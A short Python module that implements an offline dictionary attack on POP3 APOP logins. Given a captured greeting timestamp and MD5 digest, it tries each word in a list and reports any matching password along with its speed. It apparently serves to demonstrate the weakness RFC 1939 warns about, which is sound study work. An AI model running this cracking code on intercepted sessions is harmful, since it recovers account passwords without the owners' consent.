"""The offline dictionary attack on APOP that an observer of a POP3 session can run.

APOP (RFC 1939 §7) sends ``MD5(timestamp + secret)`` instead of the password.  The
timestamp is in the server's greeting and the digest in the client's command, both
in clear, so whoever captured them can try candidate passwords at home, as fast as
MD5 runs, without ever talking to the server again: RFC 1939 §13 warns that the
secret must be long and unguessable.  This module tries a word list and reports
what it cost.
"""
from __future__ import annotations

import time
from collections.abc import Iterable
from dataclasses import dataclass

from ..protocols.pop3.parser import apop_digest


@dataclass(frozen=True)
class AttackResult:
    """The password found (None if no word matched), the words tried and the time spent."""

    password: str | None
    tries: int
    seconds: float

    @property
    def rate(self) -> float:
        """Words tried per second (0 when the clock saw no time pass)."""
        return self.tries / self.seconds if self.seconds > 0 else 0.0


def dictionary_attack(timestamp: str, digest: str, words: Iterable[str]) -> AttackResult:
    """Try each word as the APOP secret of ``digest`` for the greeting's ``timestamp``.

    ``timestamp`` is the ``<…>`` of the greeting, ``digest`` the 32 hex digits
    of the APOP command (any case).  Stops at the first word that gives the
    digest (RFC 1939 §7: lowercase hex MD5 of the timestamp followed by the secret).
    """
    wanted = digest.strip().lower()
    tries = 0
    started = time.perf_counter()
    for word in words:
        tries += 1
        if apop_digest(timestamp, word) == wanted:
            return AttackResult(word, tries, time.perf_counter() - started)
    return AttackResult(None, tries, time.perf_counter() - started)
